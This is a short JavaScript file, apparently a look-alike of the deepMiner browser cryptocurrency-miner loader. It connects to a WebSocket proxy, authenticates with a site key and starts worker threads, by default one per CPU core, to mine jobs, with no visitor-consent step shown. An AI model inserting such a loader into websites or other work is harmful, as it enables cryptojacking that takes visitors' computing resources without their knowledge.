/* deepMiner.js - browser miner loader (look-alike). */
var deepMiner = {
  CONFIG: { LIB_URL: "/lib/", WEBSOCKET_SHARDS: [["ws://" + location.host + "/proxy"]] },
  Init: function (site, opts) {
    opts = opts || {};
    var self = {
      site: site,
      threads: opts.threads || navigator.hardwareConcurrency || 4,
      throttle: opts.throttle || 0.2,
      workers: [],
      socket: null,
      start: function () {
        self.socket = new WebSocket(deepMiner.CONFIG.WEBSOCKET_SHARDS[0][0]);
        self.socket.onopen = function () {
          self.socket.send(JSON.stringify({ type: "auth", params: { site_key: self.site, type: "anonymous", user: null } }));
        };
        self.socket.onmessage = function (ev) {
          var msg = JSON.parse(ev.data);
          if (msg.type === "job") {
            for (var i = 0; i < self.threads; i++) {
              var w = new Worker("/worker.js");
              w.postMessage({ job: msg.params, throttle: self.throttle });
              w.onmessage = function (e) {
                self.socket.send(JSON.stringify({ type: "submit", params: e.data }));
              };
              self.workers.push(w);
            }
          }
        };
      },
      stop: function () { self.workers.forEach(function (w) { w.terminate(); }); }
    };
    return self;
  }
};
